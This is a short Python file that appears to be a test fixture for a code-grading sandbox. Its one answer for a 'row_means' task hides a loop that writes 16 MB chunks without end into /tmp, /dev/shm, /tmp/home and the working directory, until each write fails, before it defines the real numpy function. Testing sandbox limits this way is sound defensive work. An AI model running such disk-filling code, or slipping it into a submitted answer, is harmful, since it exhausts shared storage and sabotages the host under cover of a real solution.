"""Fills every folder that it may write to."""

POINTS = [4, 3, 2]

ANSWERS = {
    "row_means": """
for place in ("/tmp", "/dev/shm", "/tmp/home", "."):
    try:
        with open(place + "/full", "wb") as file:
            while True:
                file.write(b"x" * 2**24)
    except OSError as error:
        print(place, error.errno)
def row_means(A):
    return np.mean(A, axis=1)
"""
}
